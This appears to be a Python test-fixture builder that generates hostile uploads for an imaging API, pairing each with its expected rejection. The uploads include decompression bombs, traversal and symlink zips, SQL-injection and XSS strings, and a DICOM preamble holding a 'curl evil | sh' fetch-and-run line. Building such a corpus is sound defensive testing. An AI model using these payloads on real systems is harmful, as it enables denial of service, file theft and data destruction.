"""Builds the bad-input corpus: hostile files for every accepted format, malicious zips and
hostile strings, each with the outcome the API must give.

Nothing here is committed as a binary: every file is generated from a small valid sample
(Pillow, pillow-heif, pydicom, hand-written STL/PLY/OBJ) and then cut, corrupted, relabelled,
inflated or combined with another format. ``write_corpus(directory)`` writes the files and a
``manifest.json`` (for feeding other tools); the tests use the ``BadFile`` objects directly.

    python -m corpus.build /tmp/corpus        # from tests/

Limits follow ``CorpusLimits``, which a test configures small (``max_upload_bytes``,
``max_image_pixels``) so "oversized" cases stay cheap.
"""

from __future__ import annotations

import io
import json
import random
import stat
import struct
import sys
import zipfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np
from PIL import Image

try:  # HEIC/HEIF encoder (pillow-heif ships libheif with x265)
    from pillow_heif import register_heif_opener

    register_heif_opener()
except ImportError:  # pragma: no cover
    pass


@dataclass(frozen=True)
class CorpusLimits:
    max_upload_bytes: int = 1_500_000
    max_image_pixels: int = 4_000_000


@dataclass(frozen=True)
class BadFile:
    """One hostile upload and the refusal it must get (HTTP status and stable code)."""

    case: str
    filename: str
    content_type: str
    data: bytes = field(repr=False)
    status: int
    code: str


@dataclass(frozen=True)
class BadZip:
    """One hostile archive for the batch endpoint: what each member (or the archive) gets.

    ``outcomes`` maps a result filename to (status, code); ``accepted`` counts members that
    are legitimately stored (the good members beside the bad ones).
    """

    case: str
    data: bytes = field(repr=False)
    outcomes: dict[str, tuple[str, str | None]]
    accepted: int = 0


# ---- valid samples ---------------------------------------------------------------------------

RASTER_FORMATS: dict[str, tuple[str, str, str]] = {
    # name: (Pillow format, extension, media type)
    "jpeg": ("JPEG", ".jpg", "image/jpeg"),
    "png": ("PNG", ".png", "image/png"),
    "tiff": ("TIFF", ".tif", "image/tiff"),
    "webp": ("WEBP", ".webp", "image/webp"),
    "heic": ("HEIF", ".heic", "image/heic"),
}


def noise_pixels(width: int, height: int, seed: int) -> np.ndarray:
    rng = np.random.default_rng(seed)
    y, x = np.mgrid[0:height, 0:width]
    base = np.stack([x * 255 // max(width - 1, 1), y * 255 // max(height - 1, 1),
                     np.full_like(x, 90)], axis=-1)
    return np.clip(base + rng.integers(-40, 40, size=(height, width, 3)), 0, 255
                   ).astype("uint8")


def raster(fmt: str, width: int = 160, height: int = 120, seed: int = 0) -> bytes:
    pillow_format = RASTER_FORMATS[fmt][0]
    out = io.BytesIO()
    options: dict[str, object] = {"quality": 90} if fmt in ("jpeg", "webp", "heic") else {}
    if fmt == "tiff":
        options = {"compression": "tiff_deflate"}
    Image.fromarray(noise_pixels(width, height, seed)).save(out, pillow_format, **options)
    return out.getvalue()


def _flat_jpeg(width: int, height: int) -> bytes:
    """A real, fully decodable JPEG that is small in bytes but large in pixels."""
    out = io.BytesIO()
    Image.new("RGB", (width, height), (120, 90, 60)).save(out, "JPEG", quality=50)
    return out.getvalue()


def truncated(data: bytes, keep: float = 0.6) -> bytes:
    return data[: max(16, int(len(data) * keep))]


def corrupted(data: bytes, seed: int = 7) -> bytes:
    """Headers intact, the middle third overwritten with noise (a bad card sector)."""
    rng = random.Random(seed)
    start, end = len(data) // 3, 2 * len(data) // 3
    return data[:start] + bytes(rng.getrandbits(8) for _ in range(end - start)) + data[end:]


# ---- decompression ("pixel") bombs: tiny files whose headers claim a huge canvas ---------------


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(
        ">I", zlib.crc32(kind + body) & 0xFFFFFFFF)


def png_bomb(width: int = 60_000, height: int = 60_000) -> bytes:
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr)
            + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 4096)) + _png_chunk(b"IEND", b""))


def png_zlib_bomb(side: int = 2_400) -> bytes:
    """A within-limits canvas whose IDAT inflates ~17 MB from a few KB (decoded, refused
    or not, it must not take the server down)."""
    raw = b"".join(b"\x00" + b"\x00" * side * 3 for _ in range(side))
    ihdr = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr)
            + _png_chunk(b"IDAT", zlib.compress(raw, 9)) + _png_chunk(b"IEND", b""))


def jpeg_bomb(width: int = 65_000, height: int = 65_000) -> bytes:
    data = bytearray(raster("jpeg"))
    sof = data.find(b"\xff\xc0")
    struct.pack_into(">HH", data, sof + 5, height, width)
    return bytes(data)


def tiff_bomb(width: int = 50_000, height: int = 50_000) -> bytes:
    """A hand-written little-endian TIFF: one uncompressed strip of 16 bytes, header says
    50 000 x 50 000 grey pixels."""
    entries = [(256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 8), (259, 3, 1, 1),
               (262, 3, 1, 1), (273, 4, 1, 0), (278, 4, 1, height), (279, 4, 1, 16)]
    ifd_offset = 8
    pixels_offset = ifd_offset + 2 + 12 * len(entries) + 4
    body = struct.pack("<H", len(entries))
    for tag, kind, count, value in entries:
        if tag == 273:
            value = pixels_offset
        packed = struct.pack("<H", value) + b"\0\0" if kind == 3 else struct.pack("<I", value)
        body += struct.pack("<HHI", tag, kind, count) + packed
    return b"II*\x00" + struct.pack("<I", ifd_offset) + body + b"\0\0\0\0" + b"\x80" * 16


def webp_bomb(width: int = 16_384, height: int = 16_384) -> bytes:
    """An extended WebP whose VP8X canvas is 268 megapixels around a tiny frame."""
    small = raster("webp", 16, 16)
    frame = small[12:]  # the VP8/VP8L chunk of a simple WebP
    vp8x = (b"VP8X" + struct.pack("<I", 10) + b"\x00\x00\x00\x00"
            + (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little"))
    payload = b"WEBP" + vp8x + frame
    return b"RIFF" + struct.pack("<I", len(payload)) + payload


def heic_bomb(width: int = 30_000, height: int = 30_000) -> bytes:
    data = bytearray(raster("heic"))
    at = data.find(b"ispe")
    struct.pack_into(">II", data, at + 8, width, height)
    return bytes(data)


BOMBS = {"jpeg": jpeg_bomb, "png": png_bomb, "tiff": tiff_bomb, "webp": webp_bomb,
         "heic": heic_bomb}


# ---- DICOM -----------------------------------------------------------------------------------


def dicom(**attrs: object) -> bytes:
    """A small valid DICOM panoramic (the DICOM tests' own builder)."""
    from dicom_support import dicom_bytes

    return dicom_bytes(**attrs)


def dicom_with_preamble(preamble: bytes, **attrs: object) -> bytes:
    data = dicom(**attrs)
    return preamble.ljust(128, b"\0")[:128] + data[128:]


def dicom_pixel_bomb() -> bytes:
    """Rows x Columns claim 65535 x 65535 over a few bytes of pixel data."""
    import pydicom

    ds = pydicom.dcmread(io.BytesIO(dicom()))
    ds.Rows = ds.Columns = 65_535
    out = io.BytesIO()
    ds.save_as(out, enforce_file_format=True)
    return out.getvalue()


# ---- meshes ----------------------------------------------------------------------------------

_TETRA = [((0, 0, 0), (10, 0, 0), (0, 10, 0)), ((0, 0, 0), (0, 10, 0), (0, 0, 10)),
          ((0, 0, 0), (0, 0, 10), (10, 0, 0)), ((10, 0, 0), (0, 0, 10), (0, 10, 0))]


def binary_stl(triangles=_TETRA, count: int | None = None) -> bytes:
    records = b"".join(struct.pack("<3f", 0, 0, 0)
                       + b"".join(struct.pack("<3f", *corner) for corner in triangle) + b"\0\0"
                       for triangle in triangles)
    header = b"orthovault corpus".ljust(80, b" ")
    return header + struct.pack("<I", len(triangles) if count is None else count) + records


def ascii_stl() -> bytes:
    facets = "".join("facet normal 0 0 0\n outer loop\n"
                     + "".join(f"  vertex {x} {y} {z}\n" for x, y, z in tri)
                     + " endloop\nendfacet\n" for tri in _TETRA)
    return f"solid corpus\n{facets}endsolid corpus\n".encode()


def ply(vertex_count: int | None = None) -> bytes:
    vertices = sorted({corner for tri in _TETRA for corner in tri})
    index = {v: i for i, v in enumerate(vertices)}
    header = (f"ply\nformat ascii 1.0\nelement vertex {vertex_count or len(vertices)}\n"
              "property float x\nproperty float y\nproperty float z\n"
              f"element face {len(_TETRA)}\nproperty list uchar int vertex_indices\n"
              "end_header\n")
    body = "".join(f"{x} {y} {z}\n" for x, y, z in vertices)
    body += "".join("3 " + " ".join(str(index[c]) for c in tri) + "\n" for tri in _TETRA)
    return (header + body).encode()


def obj(extra: str = "") -> bytes:
    vertices = sorted({corner for tri in _TETRA for corner in tri})
    index = {v: i + 1 for i, v in enumerate(vertices)}
    text = "".join(f"v {x} {y} {z}\n" for x, y, z in vertices)
    text += "".join("f " + " ".join(str(index[c]) for c in tri) + "\n" for tri in _TETRA)
    return (text + extra).encode()


# ---- zips ------------------------------------------------------------------------------------


def zip_of(members: list[tuple[str | zipfile.ZipInfo, bytes]],
           compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return out.getvalue()


def symlink_member(name: str, target: str) -> tuple[zipfile.ZipInfo, bytes]:
    info = zipfile.ZipInfo(name)
    info.create_system = 3  # Unix, so external_attr carries a file mode
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info, target.encode()


def _patch_all(data: bytes, signature: bytes, offset: int, fmt: str, value: int) -> bytes:
    """Set one field in every local/central header with this signature."""
    out = bytearray(data)
    at = out.find(signature)
    while at >= 0:
        struct.pack_into(fmt, out, at + offset, value)
        at = out.find(signature, at + 4)
    return bytes(out)


def encrypted_zip(member: bytes) -> bytes:
    """A stored member flagged as encrypted (traditional PKWARE): no password will do."""
    data = zip_of([("secret.jpg", member)], zipfile.ZIP_STORED)
    data = _patch_all(data, b"PK\x03\x04", 6, "<H", 0x1)
    return _patch_all(data, b"PK\x01\x02", 8, "<H", 0x1)


def unknown_method_zip(member: bytes) -> bytes:
    data = zip_of([("odd.jpg", member)], zipfile.ZIP_STORED)
    data = _patch_all(data, b"PK\x03\x04", 8, "<H", 99)
    return _patch_all(data, b"PK\x01\x02", 10, "<H", 99)


def bad_crc_zip(member: bytes) -> bytes:
    data = bytearray(zip_of([("flipped.jpg", member)], zipfile.ZIP_STORED))
    data[30 + len("flipped.jpg") + len(member) // 2] ^= 0xFF
    return bytes(data)


def corrupt_deflate_zip(member: bytes) -> bytes:
    """A deflated member whose compressed stream is damaged (zlib fails mid-member)."""
    data = bytearray(zip_of([("damaged.jpg", member)]))
    for at in range(40, 200):
        data[at] ^= 0x55
    return bytes(data)


def overlapping_zip(member: bytes, copies: int = 40) -> bytes:
    """Many central-directory entries naming one local file (the overlap trick of
    non-recursive zip bombs): each entry must be bounded, or refused."""
    single = zip_of([("same.jpg", member)], zipfile.ZIP_STORED)
    cd_start = single.find(b"PK\x01\x02")
    eocd = single.find(b"PK\x05\x06")
    local, central = single[:cd_start], single[cd_start:eocd]
    entries = b""
    for i in range(copies):
        name = f"copy{i:03d}.jpg".encode()
        head = bytearray(central[:46])
        struct.pack_into("<H", head, 28, len(name))
        entries += bytes(head) + name
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, copies, copies, len(entries),
                      len(local), 0)
    return local + entries + end


def zip_bomb(inflated: int) -> bytes:
    return zip_of([("bomb.jpg", b"\x00" * inflated)])


def nested_zip_bomb(inflated: int) -> bytes:
    inner = zip_bomb(inflated)
    return zip_of([("inner.zip", inner), ("IV01_inner.jpg", raster("jpeg", seed=41))])


# ---- the corpus ------------------------------------------------------------------------------


def raster_cases(limits: CorpusLimits) -> list[BadFile]:
    """Every raster format: truncated, corrupt, mislabelled, bombs; plus cross-format lies."""
    cases: list[BadFile] = []
    formats = list(RASTER_FORMATS)
    for i, fmt in enumerate(formats):
        _, ext, media = RASTER_FORMATS[fmt]
        good = raster(fmt, seed=i)
        other_ext, other_media = RASTER_FORMATS[formats[(i + 1) % len(formats)]][1:]
        cases += [
            BadFile(f"{fmt}-truncated", "cut" + ext, media, truncated(good), 422,
                    "corrupt_image"),
            BadFile(f"{fmt}-header-only", "head" + ext, media, good[:40], 422,
                    "corrupt_image"),
            BadFile(f"{fmt}-named-as-other", "photo" + other_ext, other_media, good, 415,
                    "media_type_mismatch"),
            BadFile(f"{fmt}-declared-as-other", "photo", other_media, good, 415,
                    "media_type_mismatch"),
            BadFile(f"{fmt}-pixel-bomb", "bomb" + ext, media, BOMBS[fmt](), 413,
                    "image_too_many_pixels"),
        ]
    cases += [
        BadFile(f"{fmt}-corrupt", "noise" + RASTER_FORMATS[fmt][1], RASTER_FORMATS[fmt][2],
                corrupted(raster(fmt, 320, 240, seed=3)), 422, "corrupt_image")
        # WebP and HEIC (lossy, no checksums) decode noise into noise: nothing to detect.
        for fmt in ("png", "tiff")
    ]
    cases += [
        BadFile("jpeg-corrupt-scan", "noise.jpg", "image/jpeg",
                raster("jpeg", 800, 600)[:600] + b"\x00" * 30_000 + b"\xff\xd9", 422,
                "corrupt_image"),
        BadFile("empty", "empty.jpg", "image/jpeg", b"", 422, "empty_file"),
        BadFile("text-named-jpeg", "photo.jpg", "image/jpeg", b"hello\n" * 100, 415,
                "unsupported_media_type"),
        BadFile("html-named-jpeg", "photo.jpg", "image/jpeg",
                b"<html><script>alert(1)</script></html>", 415, "unsupported_media_type"),
        BadFile("svg-script", "logo.svg", "image/svg+xml",
                b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
                415, "unsupported_media_type"),
        BadFile("gif", "anim.gif", "image/gif", b"GIF89a" + b"\x00" * 64, 415,
                "unsupported_media_type"),
        BadFile("pdf", "letter.pdf", "application/pdf", b"%PDF-1.4\n%%EOF\n", 415,
                "unsupported_media_type"),
        BadFile("zip-as-image", "visit.jpg", "image/jpeg",
                zip_of([("a.jpg", raster("jpeg"))]), 415, "media_type_mismatch"),
        BadFile("elf-as-image", "photo.jpg", "image/jpeg", b"\x7fELF" + b"\x00" * 200, 415,
                "unsupported_media_type"),
        BadFile("png-zlib-then-too-many-pixels", "deflate.png", "image/png",
                png_zlib_bomb(2_100), 413, "image_too_many_pixels"),
        BadFile("too-many-pixels-real-jpeg", "huge.jpg", "image/jpeg",
                _flat_jpeg(2_100, 2_000), 413, "image_too_many_pixels"),
        BadFile("over-upload-limit", "big.png", "image/png",
                raster("png", 900, 800, seed=9), 413, "upload_too_large"),
    ]
    assert len(raster("png", 900, 800, seed=9)) > limits.max_upload_bytes
    assert limits.max_image_pixels < 2_100 * 2_000
    return cases


def dicom_cases() -> list[BadFile]:
    """DICOM through the ordinary upload route (its bytes are sniffed, not its name)."""
    good = dicom()
    return [
        BadFile("dicom-truncated", "cut.dcm", "application/dicom", truncated(good, 0.7), 422,
                "dicom_truncated"),
        BadFile("dicom-header-only", "head.dcm", "application/dicom", good[:200], 422,
                "dicom_truncated"),
        BadFile("dicom-garbage-after-marker", "junk.dcm", "application/dicom",
                good[:132] + bytes(random.Random(3).getrandbits(8) for _ in range(4000)),
                422, "dicom_truncated"),
        BadFile("dicom-pixel-bomb", "bomb.dcm", "application/dicom", dicom_pixel_bomb(), 413,
                "dicom_too_large"),
        BadFile("dicom-no-pixels", "nopix.dcm", "application/dicom",
                _without_pixels(good), 422, "dicom_no_pixel_data"),
    ]


def dicom_preamble_cases() -> list[BadFile]:
    """PS3.10 leaves the 128-byte preamble free; an executable or script there makes the
    file a polyglot (CVE-2019-11687). Refused before any byte is kept."""
    return [
        BadFile(f"dicom-preamble-{name}", "x.dcm", "application/dicom",
                dicom_with_preamble(preamble), 415, "dicom_suspicious_preamble")
        for name, preamble in [
            ("pe", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"),
            ("elf", b"\x7fELF\x02\x01\x01"),
            ("script", b"#!/bin/sh\ncurl evil | sh\n"),
            ("html", b"<html><script>alert(1)</script>"),
            ("zip", b"PK\x03\x04"),
            ("pdf", b"%PDF-1.4\n"),
        ]
    ]


def _without_pixels(data: bytes) -> bytes:
    import pydicom

    ds = pydicom.dcmread(io.BytesIO(data))
    del ds.PixelData
    out = io.BytesIO()
    ds.save_as(out, enforce_file_format=True)
    return out.getvalue()


def mesh_cases(limits: CorpusLimits) -> list[BadFile]:
    nan = [((float("nan"), 0, 0), (1, 0, 0), (0, 1, 0))] * 4
    octet = "application/octet-stream"
    return [
        BadFile("stl-truncated", "cut.stl", octet, truncated(binary_stl(), 0.8), 422,
                "mesh_truncated"),
        BadFile("stl-header-only", "head.stl", octet, binary_stl()[:50], 422,
                "mesh_truncated"),
        BadFile("stl-count-bomb", "bomb.stl", octet, binary_stl(count=2**31), 422,
                "mesh_truncated"),
        BadFile("stl-nan", "nan.stl", octet, binary_stl(nan), 422, "mesh_invalid"),
        BadFile("stl-ascii-no-end", "open.stl", octet, ascii_stl()[:-20], 422,
                "mesh_truncated"),
        BadFile("ply-vertex-bomb", "bomb.ply", octet, ply(vertex_count=2**31), 422,
                "mesh_truncated"),
        BadFile("ply-no-end-header", "head.ply", octet, ply()[:60], 422, "mesh_truncated"),
        BadFile("obj-bad-index", "bad.obj", octet, obj("f 1 2 99999\n"), 422, "mesh_invalid"),
        BadFile("obj-text-only", "notes.obj", octet, b"hello world\n" * 10, 422,
                "mesh_empty"),
        BadFile("jpeg-as-stl", "scan.stl", octet, raster("jpeg"), 422, "mesh_truncated"),
        BadFile("zip-as-mesh", "scan.zip", octet, zip_of([("a.stl", binary_stl())]), 415,
                "mesh_unsupported_format"),
        BadFile("empty-mesh", "empty.stl", octet, b"", 422, "mesh_empty"),
        BadFile("mesh-over-upload-limit", "big.stl", octet,
                binary_stl(_TETRA * (limits.max_upload_bytes // (50 * 4) + 10)), 413,
                "upload_too_large"),
    ]


def zip_cases(limits: CorpusLimits) -> list[BadZip]:
    jpeg = raster("jpeg", seed=31)
    return [
        BadZip("path-traversal", zip_of([
            ("../../etc/evil.jpg", raster("jpeg", seed=32)),
            ("..\\..\\windows\\evil.jpg", raster("jpeg", seed=33)),
            ("/abs/evil.jpg", raster("jpeg", seed=34)),
            ("C:/evil.jpg", raster("jpeg", seed=35)),
            ("ok/IV01_good.jpg", jpeg),
        ]), {"../../etc/evil.jpg": ("rejected", "unsafe_path"),
             "..\\..\\windows\\evil.jpg": ("rejected", "unsafe_path"),
             "/abs/evil.jpg": ("rejected", "unsafe_path"),
             "C:/evil.jpg": ("rejected", "unsafe_path"),
             "IV01_good.jpg": ("accepted", None)}, accepted=1),
        BadZip("symlink", zip_of([symlink_member("link.jpg", "/etc/passwd"),
                                  symlink_member("up.jpg", "../../../../etc/shadow")]),
               {"link.jpg": ("rejected", "unsafe_path"), "up.jpg": ("rejected", "unsafe_path")}),
        BadZip("duplicate-names", zip_of([("IV01.jpg", raster("jpeg", seed=36)),
                                          ("IV01.jpg", raster("jpeg", seed=37))]),
               {"IV01.jpg": ("accepted", None)}, accepted=2),
        BadZip("too-many-members", zip_of([(f"m{i}.txt", b"x") for i in range(501)],
                                          zipfile.ZIP_STORED),
               {"many.zip": ("rejected", "zip_too_many_members")}),
        BadZip("member-bomb", zip_bomb(limits.max_upload_bytes * 20),
               {"bomb.jpg": ("rejected", "zip_member_too_large")}),
        BadZip("nested-zip", nested_zip_bomb(limits.max_upload_bytes * 20),
               {"inner.zip": ("rejected", "unsupported_media_type"),
                "IV01_inner.jpg": ("accepted", None)}, accepted=1),
        BadZip("overlapping-entries", overlapping_zip(jpeg, copies=40),
               {f"copy{i:03d}.jpg": ("rejected", "corrupt_zip") for i in range(40)}),
        BadZip("encrypted-member", encrypted_zip(jpeg),
               {"secret.jpg": ("rejected", "zip_member_encrypted")}),
        BadZip("unknown-compression", unknown_method_zip(jpeg),
               {"odd.jpg": ("rejected", "corrupt_zip")}),
        BadZip("bad-crc", bad_crc_zip(jpeg), {"flipped.jpg": ("rejected", "corrupt_zip")}),
        BadZip("corrupt-deflate", corrupt_deflate_zip(raster("jpeg", 320, 240, seed=39)),
               {"damaged.jpg": ("rejected", "corrupt_zip")}),
        BadZip("truncated-archive", truncated(zip_of([("a.jpg", jpeg)], zipfile.ZIP_STORED)),
               {"many.zip": ("rejected", "corrupt_zip")}),
        BadZip("jpeg-zip-polyglot-member", zip_of([("IV02_poly.jpg", jpeg + zip_of(
            [("inner.jpg", raster("jpeg", seed=38))]))]), {"IV02_poly.jpg": ("accepted", None)},
            accepted=1),
    ]


# ---- hostile strings -------------------------------------------------------------------------

HOSTILE_STRINGS: dict[str, str] = {
    "sql-quote": "O'Brien'); DROP TABLE gallery_images; --",
    "sql-union": "x' UNION SELECT given_name FROM patients --",
    "sql-comment": "*/ SELECT 1; /*",
    "tsquery": "a & !b | (c <-> d):* & 'e'",
    "tsquery-broken": "((( & | ! <-> :*",
    "like-wildcards": "%_%\\",
    "regex": ".*(a+)+$[",
    "path-traversal": "../../../../etc/passwd",
    "windows-path": "..\\..\\boot.ini",
    "url-encoded": "%2e%2e%2f%00",
    "html": "<img src=x onerror=alert(1)>",
    "graphql": '{ __schema { types { name } } }"',
    "json": '{"$where": "1"}',
    "format-string": "%s%s%n{0}{__class__}",
    "unicode-mixed": "Zoë Ñandú 李 محمد",
    "emoji": "🦷😀",
}

# Strings that cannot be shown safely or stored in every column: every text field must refuse
# them with a 4xx (or, where the field is free text, keep them verbatim and harmlessly).
UNPRINTABLE_STRINGS: dict[str, str] = {
    "nul": "Ada\x00Lovelace",
    "control": "Ada\x1b[31mred\x07",
    "newline": "Ada\r\nSet-Cookie: x=1",
    "rtl-override": "photo\u202egpj.exe",
    "zero-width": "A\u200bda",
    "lone-surrogate-escape": "A\udcffda",
}

VERY_LONG = "A" * 100_000


def all_files(limits: CorpusLimits) -> list[BadFile]:
    return raster_cases(limits) + dicom_cases() + dicom_preamble_cases() + mesh_cases(limits)


def write_corpus(directory: Path, limits: CorpusLimits | None = None) -> list[Path]:
    """Write every file and zip plus a manifest of expected outcomes; returns the paths."""
    limits = limits or CorpusLimits()
    directory.mkdir(parents=True, exist_ok=True)
    written: list[Path] = []
    manifest: list[dict[str, object]] = []
    for bad in all_files(limits):
        path = directory / f"{bad.case}{Path(bad.filename).suffix}"
        path.write_bytes(bad.data)
        written.append(path)
        manifest.append({"file": path.name, "filename": bad.filename,
                         "content_type": bad.content_type, "status": bad.status,
                         "code": bad.code})
    for archive in zip_cases(limits):
        path = directory / f"zip-{archive.case}.zip"
        path.write_bytes(archive.data)
        written.append(path)
        manifest.append({"file": path.name, "outcomes": archive.outcomes})
    (directory / "manifest.json").write_text(json.dumps(manifest, indent=1))
    return written


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "corpus-out")
    print(f"{len(write_corpus(target))} files in {target}")
